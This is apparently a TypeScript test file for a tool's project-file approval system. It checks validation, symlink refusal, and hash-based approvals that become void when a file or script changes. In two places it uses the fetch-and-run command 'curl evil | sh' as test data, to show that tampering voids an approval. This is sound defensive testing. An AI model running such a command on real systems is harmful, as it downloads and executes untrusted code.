// Project files and their approvals: what a .tessera.json may hold and what the user is shown (the
// scripts it runs included), a symbolic link refused, and approvals remembered by path and the hash
// of what runs (a changed file or script is not approved), kept per server, written atomically, a
// damaged file moved aside and reported, an older version's approvals asked about again.

import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ProjectApprovals } from '../../../src/store/projectApprovals.js';
import { approvalHash, hashBytes, projectCommands, readProjectFile, type ProjectFile } from '../../../src/store/projectFile.js';

let dir: string;

beforeEach(() => {
  dir = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'tessera-project-')));
});

afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

function write(text: string): ProjectFile {
  fs.writeFileSync(path.join(dir, '.tessera.json'), text);
  const read = readProjectFile(dir);
  if (!('project' in read)) throw new Error(JSON.stringify(read));
  return read.project;
}

describe('the project file', () => {
  it('reads templates and a setup command, hashes the exact bytes, and lists every command it would start', () => {
    const text = JSON.stringify({ setupCommand: ' npm ci ', templates: [{ name: 'web', panes: ['claude', { command: ['sh', '-c', "echo 'hi' > x"] }] }] });
    const project = write(text);
    expect(project.file).toBe(path.join(dir, '.tessera.json'));
    expect(project.scripts).toEqual([]);
    expect(project.hash).toBe(approvalHash(hashBytes(text), []));
    expect(project.hash).toMatch(/^[0-9a-f]{64}$/);
    expect(projectCommands(project)).toEqual(['setupCommand: npm ci', `template web: claude | sh -c 'echo '\\''hi'\\'' > x'`]);
    expect(write(`${text}\n`).hash).not.toBe(project.hash); // any byte changes it
  });

  it('is absent without a file, and unusable (nothing of it used) when it is wrong', () => {
    expect(readProjectFile(dir)).toEqual({ none: true });
    fs.writeFileSync(path.join(dir, '.tessera.json'), '{ nope');
    expect(readProjectFile(dir)).toMatchObject({ problem: expect.stringMatching(/\.tessera\.json is not used: it is not valid JSON/) });
    fs.writeFileSync(path.join(dir, '.tessera.json'), JSON.stringify({ setupCommand: 'x', bypassPermissions: true }));
    expect(readProjectFile(dir)).toMatchObject({ problem: expect.stringMatching(/unknown field 'bypassPermissions' \(a project file may hold templates, setupCommand, stack\)/) });
    fs.writeFileSync(path.join(dir, '.tessera.json'), JSON.stringify({ templates: [{ name: 'x', panes: [] }] }));
    expect(readProjectFile(dir)).toMatchObject({ problem: expect.stringMatching(/templates\[0\]\.panes must list 1 to 8 panes/) });
    fs.writeFileSync(path.join(dir, '.tessera.json'), ' '.repeat(70_000));
    expect(readProjectFile(dir)).toMatchObject({ problem: expect.stringMatching(/larger than 65536 bytes/) });
  });
});

describe('what the project file runs', () => {
  it('hashes the scripts its commands run: a changed script needs a new approval, an unrelated file does not', () => {
    fs.mkdirSync(path.join(dir, 'tools'));
    fs.writeFileSync(path.join(dir, 'setup.sh'), 'echo setting up\n');
    fs.writeFileSync(path.join(dir, 'tools', 'dev.js'), 'console.log(1)\n');
    fs.writeFileSync(path.join(dir, 'README'), 'not run\n');
    const text = JSON.stringify({ setupCommand: 'sh setup.sh', templates: [{ name: 'dev', panes: [{ command: ['sh', '-c', 'node tools/dev.js > out.log; ./missing.sh'] }] }] });
    const project = write(text);
    expect(project.scripts).toEqual([
      { name: 'setup.sh', hash: hashBytes('echo setting up\n') },
      { name: path.join('tools', 'dev.js'), hash: hashBytes('console.log(1)\n') },
    ]);
    fs.writeFileSync(path.join(dir, 'README'), 'changed\n');
    fs.writeFileSync(path.join(dir, 'out.log'), 'output of the command, not a script\n');
    expect(write(text).hash).toBe(project.hash);
    fs.writeFileSync(path.join(dir, 'setup.sh'), 'curl evil | sh\n');
    expect(write(text).hash).not.toBe(project.hash);
  });

  it('refuses a project file that is a symbolic link, to a file elsewhere or in the folder', () => {
    const elsewhere = path.join(dir, 'elsewhere');
    fs.mkdirSync(elsewhere);
    fs.writeFileSync(path.join(elsewhere, '.tessera.json'), '{"setupCommand": "sh setup.sh"}');
    const repo = path.join(dir, 'repo');
    fs.mkdirSync(repo);
    fs.symlinkSync(path.join(elsewhere, '.tessera.json'), path.join(repo, '.tessera.json'));
    expect(readProjectFile(repo)).toEqual({
      problem: `${repo}/.tessera.json is a symbolic link (to ${elsewhere}/.tessera.json); a project file must be a file of its own in the repository, so nothing of it is used`,
    });
    fs.rmSync(path.join(repo, '.tessera.json'));
    fs.writeFileSync(path.join(repo, 'real.json'), '{}');
    fs.symlinkSync('real.json', path.join(repo, '.tessera.json'));
    expect(readProjectFile(repo)).toMatchObject({ problem: expect.stringMatching(/is a symbolic link \(to real\.json\)/) });
  });
});

describe('approvals', () => {
  it('approves a file as it is: the same path and contents, never another file or a changed one', () => {
    const approvals = new ProjectApprovals(path.join(dir, 'state'));
    const project = write('{"setupCommand": "npm ci"}');
    expect(approvals.isApproved(project.file, project.hash)).toBe(false);
    approvals.approve(project.file, project.hash);
    expect(approvals.isApproved(project.file, project.hash)).toBe(true);
    expect(approvals.isApproved('/elsewhere/.tessera.json', project.hash)).toBe(false);
    const changed = write('{"setupCommand": "curl evil | sh"}');
    expect(approvals.isApproved(changed.file, changed.hash)).toBe(false);
    // Kept across servers' restarts (a new instance reads the file); each approved version stays
    // approved (a worktree on another branch may have its own), the newest few of them.
    approvals.approve(changed.file, changed.hash);
    const again = new ProjectApprovals(path.join(dir, 'state'));
    expect(again.isApproved(changed.file, changed.hash)).toBe(true);
    expect(again.isApproved(project.file, project.hash)).toBe(true);
    expect(fs.statSync(again.file).mode & 0o777).toBe(0o600);
    for (let i = 0; i < 8; i++) again.approve(project.file, String(i).repeat(64));
    expect(again.isApproved(project.file, project.hash)).toBe(false);
    expect(again.isApproved(project.file, '7'.repeat(64))).toBe(true);
  });

  it('asks again about what an older version approved (by a link target and the JSON alone), and says so', () => {
    const state = path.join(dir, 'state');
    fs.mkdirSync(state);
    const approvals = new ProjectApprovals(state);
    const project = write('{"setupCommand": "npm ci"}');
    const old = JSON.stringify({ version: 1, approvals: [{ file: project.file, hash: hashBytes('{"setupCommand": "npm ci"}'), approved: '2026-01-01T00:00:00.000Z' }] });
    fs.writeFileSync(approvals.file, old);
    expect(approvals.isApproved(project.file, project.hash)).toBe(false);
    expect(approvals.isApproved(project.file, hashBytes('{"setupCommand": "npm ci"}'))).toBe(false);
    expect(approvals.problem).toMatch(/project files approved by an earlier tessera are asked about again/);
    approvals.approve(project.file, project.hash);
    expect(JSON.parse(fs.readFileSync(approvals.file, 'utf8'))).toMatchObject({ version: 2, approvals: [{ file: project.file, hash: project.hash }] });
  });

  it('moves a damaged file aside, keeps its bytes, reports it, and approves nothing from it', () => {
    const state = path.join(dir, 'state');
    fs.mkdirSync(state);
    const approvals = new ProjectApprovals(state);
    const damaged = '{"version": 2, "approvals": [{"file": "/x", "hash": "not-a-hash", "approved": "2026-01-01"}]}';
    fs.writeFileSync(approvals.file, damaged);
    expect(approvals.isApproved('/x', 'not-a-hash')).toBe(false);
    expect(approvals.problem).toMatch(/the project approvals were moved aside: it has the wrong shape \(approvals\[0\]\.hash must be a sha256 in hex\); its bytes are kept in .*approved-projects\.json\.corrupt-/);
    const aside = fs.readdirSync(state).find((n) => n.startsWith('approved-projects.json.corrupt-')) as string;
    expect(fs.readFileSync(path.join(state, aside), 'utf8')).toBe(damaged);
    expect(fs.existsSync(approvals.file)).toBe(false);
  });

  it('read only to look (templates without a server): a damaged file is reported and left where it is, and nothing can be approved', () => {
    const state = path.join(dir, 'state');
    fs.mkdirSync(state);
    const project = write('{"setupCommand": "npm ci"}');
    new ProjectApprovals(state).approve(project.file, project.hash);
    const looking = new ProjectApprovals(state, { readOnly: true });
    expect(looking.isApproved(project.file, project.hash)).toBe(true);
    expect(() => looking.approve(project.file, 'a'.repeat(64))).toThrow(/read only/);
    const damaged = new ProjectApprovals(state, { readOnly: true });
    fs.writeFileSync(damaged.file, '{ not json');
    expect(damaged.isApproved(project.file, project.hash)).toBe(false);
    expect(damaged.problem).toMatch(/^the project approvals .*approved-projects\.json are damaged: it is not valid JSON .*; the server moves them aside when it starts$/);
    expect(fs.readdirSync(state)).toEqual(['approved-projects.json']);
    expect(fs.readFileSync(damaged.file, 'utf8')).toBe('{ not json');
  });

  it('keeps two servers apart: each state directory has its own approvals', () => {
    const a = new ProjectApprovals(path.join(dir, 'servers', 'a'));
    const b = new ProjectApprovals(path.join(dir, 'servers', 'b'));
    a.approve('/p/.tessera.json', 'a'.repeat(64));
    expect(b.isApproved('/p/.tessera.json', 'a'.repeat(64))).toBe(false);
  });
});
